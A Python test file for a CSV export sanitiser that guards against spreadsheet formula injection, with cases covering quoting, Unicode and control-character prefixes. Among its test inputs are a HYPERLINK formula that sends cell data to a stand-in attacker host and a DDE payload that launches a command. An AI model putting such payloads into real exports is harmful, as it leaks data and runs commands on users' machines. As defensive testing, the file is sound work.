"""What leaves us as a table calculates nothing where it is opened."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foundation.exports import BYTE_ORDER_MARK, FORMULA_STARTS, csv_lines, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example.com?"&A1)', '\'=HYPERLINK("http://evil.example.com?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("\u3000\xa0=1", "'\u3000\xa0=1"),
        ("\x00=1", "'=1"),
        ("a=1", "a=1"),
        ("午餐", "午餐"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (10**13, "10000000000000"),
        (True, "1"),
    ],
)
def test_cells(value: str | int | None, written: str) -> None:
    assert safe_cell(value) == written


def test_lines_are_read_back_as_they_were() -> None:
    text = "".join(csv_lines([["order", "amount"], ['a "b", c\nd', -5], ["=1", None]]))
    assert text == BYTE_ORDER_MARK + '"order","amount"\r\n"a ""b"", c\nd","-5"\r\n"\'=1",""\r\n'
    rows = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))
    assert rows == [["order", "amount"], ['a "b", c\nd', "-5"], ["'=1", ""]]


def test_no_rows_are_no_lines() -> None:
    assert list(csv_lines([])) == []


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\",;a1＝\x00\u3000"), max_size=8))
def test_no_text_begins_as_a_formula_in_any_cell(text: str) -> None:
    line = "".join(csv_lines([["x", text]]))
    [[_, cell]] = csv.reader(io.StringIO(line.removeprefix(BYTE_ORDER_MARK), newline=""))
    assert not cell.lstrip().startswith(FORMULA_STARTS)
